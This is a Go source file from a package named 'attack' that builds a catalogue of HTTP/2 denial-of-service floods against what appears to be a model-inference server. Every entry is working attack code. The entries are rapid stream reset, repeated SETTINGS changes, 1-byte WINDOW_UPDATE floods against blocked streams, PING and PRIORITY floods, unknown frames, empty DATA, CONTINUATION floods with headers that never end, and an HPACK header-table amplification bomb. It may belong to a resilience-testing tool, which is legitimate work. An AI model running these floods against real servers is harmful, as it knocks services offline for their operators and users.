package attack

import (
	"bytes"
	"fmt"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Sizes of the floods.
const (
	piece        = 16 << 10 // bytes that are collected before they are sent
	openStreams  = 1000     // that wait for their message, or with it for a window
	answerSize   = 4 << 10  // of a call that waits for a window
	biggestFrame = 16 << 10 // that every server takes
)

// repeated collects frames until they are a piece.
func repeated(write func(*h2)) func(*h2) {
	return func(c *h2) {
		for c.out.Len() < piece {
			write(c)
		}
	}
}

// streams opens calls whose messages do not come.
func streams(n int) func(*h2) error {
	return func(c *h2) error {
		for range n {
			c.call(streamPath)
		}
		return c.flush()
	}
}

// blocked opens calls whose answers are larger than the client's window.
func blocked(n int) func(*h2) error {
	return func(c *h2) error {
		message := Message(Model, answerSize/4)
		for range n {
			if err := c.send(c.call(inferPath), message, false, true); err != nil {
				return err
			}
		}
		return nil
	}
}

// closedWindow has every answer wait.
var closedWindow = []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}

// Control returns the floods of control frames, and of frames that cost a
// client nothing.
func Control() []Class {
	return []Class{
		{Name: "reset", About: "a call opened and reset at once, over and over (rapid reset)", Flood: &Flood{
			Frames: repeated(func(c *h2) { c.framer.WriteRSTStream(c.call(inferPath), http2.ErrCodeCancel) }),
		}},
		{Name: "reset-message", About: "a call with a whole request, reset at once", Flood: &Flood{
			Frames: repeated(func(c *h2) {
				id := c.call(inferPath)
				m := Message(Model, 4)
				c.framer.WriteData(id, true, append(prefix(len(m), false), m...))
				c.framer.WriteRSTStream(id, http2.ErrCodeCancel)
			}),
		}},
		{Name: "settings", About: fmt.Sprintf("INITIAL_WINDOW_SIZE changed over and over with %d streams open", openStreams), Flood: &Flood{
			Prepare: streams(openStreams),
			Frames: repeated(func(c *h2) {
				for _, size := range []uint32{65536, 65535} {
					c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: size})
				}
			}),
		}},
		{Name: "settings-many", About: "2,000 INITIAL_WINDOW_SIZE in each SETTINGS frame", Flood: &Flood{
			Prepare: streams(openStreams),
			Frames: func(c *h2) {
				list := make([]http2.Setting, 2000)
				for i := range list {
					list[i] = http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 + uint32(i%2)}
				}
				c.framer.WriteSettings(list...)
			},
		}},
		{Name: "window-conn", About: fmt.Sprintf("WINDOW_UPDATE of 1 byte with %d answers waiting for the connection's window", openStreams), Flood: &Flood{
			Settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1 << 20}}, Prepare: blocked(openStreams),
			Frames: repeated(func(c *h2) { c.framer.WriteWindowUpdate(0, 1) }),
		}},
		{Name: "window-update", About: fmt.Sprintf("WINDOW_UPDATE of 1 byte to the connection with %d answers waiting for their streams' windows", openStreams), Flood: &Flood{
			Settings: closedWindow, Prepare: blocked(openStreams),
			Frames: repeated(func(c *h2) { c.framer.WriteWindowUpdate(0, 1) }),
		}},
		{Name: "window-stream", About: fmt.Sprintf("WINDOW_UPDATE of 1 byte to one of %d streams whose answers wait", openStreams), Flood: &Flood{
			Settings: closedWindow, Prepare: blocked(openStreams),
			Frames: repeated(func(c *h2) { c.framer.WriteWindowUpdate(1, 1) }),
		}},
		{Name: "ping", About: "PING over and over", Flood: &Flood{Frames: repeated(func(c *h2) { c.framer.WritePing(false, [8]byte{}) })}},
		{Name: "ping-unread", About: "PING over and over from a client that reads nothing", Flood: &Flood{
			Unread: true, Frames: repeated(func(c *h2) { c.framer.WritePing(false, [8]byte{}) }),
		}},
		{Name: "priority", About: "PRIORITY over and over", Flood: &Flood{Frames: repeated(func(c *h2) {
			c.framer.WritePriority(c.next, http2.PriorityParam{StreamDep: 0, Weight: 7})
		})}},
		{Name: "unknown-frame", About: "frames of an unknown type", Flood: &Flood{Frames: repeated(func(c *h2) {
			c.framer.WriteRawFrame(http2.FrameType(0x77), 0, 0, nil)
		})}},
		{Name: "empty-data", About: "DATA frames without data on an open stream", Flood: &Flood{
			Prepare: streams(1), Frames: repeated(func(c *h2) { c.framer.WriteData(1, false, nil) }),
		}},
		{Name: "continuation", About: "headers that never end: CONTINUATION over and over", Flood: &Flood{
			Frames: func(c *h2) {
				filler := bytes.Repeat([]byte{0x82}, 8<<10) // :method: GET, from the static table
				c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next, BlockFragment: c.fields(inferPath)})
				c.next += 2
				for range 8 {
					c.framer.WriteContinuation(c.next-2, false, filler)
				}
			},
		}},
		{Name: "continuation-empty", About: "headers that never end, in CONTINUATION frames without a byte", Flood: &Flood{
			Frames: func(c *h2) {
				if c.next == 1 {
					c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.fields(inferPath)})
					c.next += 2
				}
				repeated(func(c *h2) { c.framer.WriteContinuation(1, false, nil) })(c)
			},
		}},
		{Name: "header-bomb", About: "headers of 16 KB that name one of 4 KB 12,000 times from the table (HPACK)", Flood: &Flood{
			Frames: func(c *h2) {
				block := c.fields(inferPath, hpack.HeaderField{Name: "x", Value: string(bytes.Repeat([]byte{'v'}, 3900))})
				// 0xbe is the newest entry of the table.
				block = append(bytes.Clone(block), bytes.Repeat([]byte{0xbe}, 12_000)...)
				c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next, BlockFragment: block[:min(len(block), biggestFrame)], EndHeaders: true, EndStream: true})
				c.next += 2
			},
		}},
	}
}
